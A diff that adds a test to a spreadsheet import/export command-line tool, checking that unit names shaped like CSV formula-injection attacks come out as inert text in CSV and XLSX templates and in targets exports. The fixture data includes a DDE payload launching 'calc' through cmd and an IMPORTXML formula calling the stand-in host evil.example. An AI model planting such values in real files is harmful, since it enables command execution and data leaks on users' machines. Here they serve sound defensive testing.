@@ -140,6 +140,39 @@ def test_units_and_targets_import_and_export(tmp_path, capsys):
     assert out == targets.read_text(encoding="utf-8")  # the rejected file changed nothing
 
 
+def test_every_file_the_commands_write_holds_formula_like_names_as_text(tmp_path, capsys):
+    """Units named as an attacker would: the template (CSV, XLSX) and the targets export hold them as text."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    db = str(tmp_path / "s.duckdb")
+    assert run(capsys, "init", "--db", db)[0] == 0
+    units = tmp_path / "units.csv"
+    units.write_text("code,name_zh,name_en,sector\nF1,=cmd|'/c calc'!A1,F1,coal\nF2,+1+1,F2,coal\n"
+                     "+F3,\"@IMPORTXML(\"\"http://evil.example\"\",\"\"//a\"\")\",F3,coal\n", encoding="utf-8")
+    assert run(capsys, "units", "import", str(units), "--db", db)[0] == 0
+    expected = [["'+F3", '\'@IMPORTXML("http://evil.example","//a")'], ["F1", "'=cmd|'/c calc'!A1"], ["F2", "'+1+1"]]
+    for fmt in ("csv", "xlsx"):
+        out = tmp_path / f"template.{fmt}"
+        code, _, err = run(capsys, "template", "--month", "2026-10", "--format", fmt, "--out", str(out), "--db", db)
+        assert code == 0, err
+        if fmt == "csv":
+            rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))[1:]
+            assert [row[1:3] for row in rows] == expected
+        else:
+            sheet = load_workbook(out).worksheets[0]
+            assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+            assert [[c.value for c in row[1:3]] for row in sheet.iter_rows(min_row=2)] == expected
+    targets = tmp_path / "targets.csv"
+    targets.write_text("year,subsidiary,indicator,target,limit,weight,veto\n2026,+F3,injuries,-1,0,10,false\n",
+                       encoding="utf-8")
+    assert run(capsys, "targets", "import", str(targets), "--db", db)[0] == 0
+    code, out, _ = run(capsys, "targets", "export", "--year", "2026", "--db", db)
+    assert out.splitlines()[1] == "2026,'+F3,injuries,-1,0,10,false"  # the code is text, the target a number
+
+
 def test_init_demo_refuses_a_store_with_data(demo_db, capsys):
     code, _, err = run(capsys, "init", "--demo", "--db", str(demo_db))
     assert code == 1 and "already holds" in err
